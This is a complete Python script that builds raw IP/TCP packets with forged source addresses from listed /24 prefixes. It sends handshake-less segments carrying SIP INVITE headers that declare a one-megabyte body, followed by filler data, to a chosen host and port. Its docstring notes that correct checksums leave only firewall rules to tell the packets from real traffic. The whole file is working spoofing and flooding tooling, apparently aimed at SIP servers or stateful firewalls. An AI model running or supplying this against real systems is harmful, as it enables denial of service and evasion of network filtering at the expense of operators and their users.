#!/usr/bin/env python3
"""Handshake-less TCP segments from forged sources, through a raw socket (IP_HDRINCL).

  spoofed_tcp.py DST PORT STREAMS SEGMENTS BYTES SOURCE_PREFIX...

Stream i comes from the i-th address of the SOURCE_PREFIX list (each a /24 written as
"192.0.2", hosts .10 to .249), port 40000, and never saw a SYN: its first segment is an
ACK carrying a SIP INVITE header that declares "Content-Length: 1000000", each next one BYTES
of body. Checksums are right, so only the firewall's rules tell these from real traffic.
Sends STREAMS x SEGMENTS packets, then prints "sent N".
"""
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, dst, sport, dport, seq, payload):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 1, 5 << 4, 0x18, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + payload)) + tcp[18:]
    total = 20 + len(tcp) + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp + payload


def main():
    dst, port, streams, segments, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
    sources = [f"{p}.{h}" for p in sys.argv[6:] for h in range(10, 250)]
    if streams > len(sources):
        sys.exit(f"{streams} streams need {streams} source addresses, the prefixes give {len(sources)}")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    body = b"x" * size
    sent = 0
    for i in range(streams):
        src = sources[i]
        head = (f"INVITE sip:100@{dst} SIP/2.0\r\nVia: SIP/2.0/TCP {src}:40000;branch=z9hG4bK{i}\r\n"
                f"From: <sip:a@{src}>;tag={i}\r\nTo: <sip:100@{dst}>\r\nCall-ID: spoof-{i}\r\n"
                f"CSeq: 1 INVITE\r\nContent-Length: 1000000\r\n\r\n").encode()
        seq = 1000
        for n in range(segments):
            payload = head if n == 0 else body
            s.sendto(segment(src, dst, 40000, port, seq, payload), (dst, 0))
            seq += len(payload)
            sent += 1
    print(f"sent {sent}")


if __name__ == "__main__":
    main()
